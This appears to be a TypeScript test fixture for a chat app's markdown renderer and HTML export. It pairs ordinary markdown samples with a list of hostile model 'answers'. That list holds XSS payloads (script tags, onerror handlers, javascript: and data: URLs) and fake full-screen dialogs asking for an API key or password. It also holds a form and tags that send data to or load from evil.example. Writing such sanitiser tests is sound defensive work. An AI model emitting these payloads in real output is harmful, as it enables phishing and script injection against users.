/** Markdown the renderer and the HTML export are tested on: the shapes models write, and answers meant to attack. */

export const MARKDOWN_CORPUS: Record<string, string> = {
  'loose ordered list':
    'Steps:\n\n1. Install the package.\n\n2. Configure it.\n\n   The configuration lives in `config.json`.\n\n3. Run it:\n\n   ```sh\n   npm start\n   ```\n',
  'nested lists':
    '- fruit\n  - apple\n    - green\n    - red\n  - pear\n- vegetables\n  1. carrot\n  2. leek\n\n     tasty\n- [ ] todo\n- [x] done\n',
  'indented code': 'Before.\n\n    const a = 1;\n\n    const b = 2;\n\nAfter.\n',
  'reference links defined after use':
    'Read [the docs][docs] or [docs] first, then [the site][site].\n\nMore text.\n\n[docs]: https://example.com/docs "Docs"\n[site]: https://example.org/\n',
  table: '| name | value |\n|:-----|------:|\n| a | 1 |\n| `b|c` | **2** |\n\nAfter the table.\n',
  'headings and rules':
    '# Title\nIntro line\n\nSetext\n======\n\n***\n\n## Sub *emph* and **strong** ~~del~~\n\n> quote\n> > nested quote\nlazy line\n',
  'html-looking text':
    'Use <div> for blocks and a <br> to break.\n\n<details><summary>More</summary>\n\nHidden *text*\n\n</details>\n\nGenerics: Array<string> and a < b > c.\n\n<!-- a comment -->\n',
  'code and math':
    'Inline `$x$` and $y^2$ and \\(z\\).\n\n$$\n\\frac{a}{b}\n$$\n\n```python\nprint("$5 and $10")\n```\n\nIt costs $5 and $10.\n',
  'setext and paragraphs': 'A paragraph\nthat continues\n---\n\nAnother one  \nwith a hard break\\\nand more.\n',
  'autolinks and images': 'See https://example.com and <mailto:a@b.c>.\n\n![alt text](image.png "t")\n',
};

/** Answers written to restyle, cover, frame or script the window, or to escape the message's box. */
export const HOSTILE: string[] = [
  '<style>.composer{display:none} body{background:red}</style>\n\nNothing to see.',
  'Look: <span style="position:fixed;inset:0;z-index:99999;background:white">Fake dialog: enter your API key</span>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh">cover</div>\n\nafter',
  '<form action="https://evil.example/"><input name="key" placeholder="API key"><button>Send</button></form>',
  '<iframe src="https://evil.example/"></iframe><frame src="x"><object data="x"></object><embed src="x">',
  '<svg><foreignObject width="100%" height="100%"><div style="position:fixed">x</div></foreignObject></svg>',
  '<svg onload="alert(1)"><style>*{display:none}</style></svg>',
  '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n[click](javascript:alert(1))\n\n<a href="javascript:alert(2)">x</a>',
  '<link rel="stylesheet" href="https://evil.example/x.css">\n<meta http-equiv="refresh" content="0;url=https://evil.example">\n<base href="https://evil.example/">',
  '<dialog open>Your session expired. <input type="password"></dialog>',
  '<div class="composer hidden katex" style="display:none">class games</div>',
  '```html\n<style>body{display:none}</style>\n```\n\nInline `<style>` code.',
  '$\\htmlStyle{position:fixed;top:0;left:0}{covered}$ and $\\htmlClass{composer}{x}$ and $\\color{red}{ok}$',
  '[x](data:text/html,<script>alert(1)</script>) and [y](vbscript:msgbox) and ![i](javascript:alert(1))',
  '<textarea>a</textarea><select><option>1</option></select><template><img src=x onerror=alert(1)></template>',
];
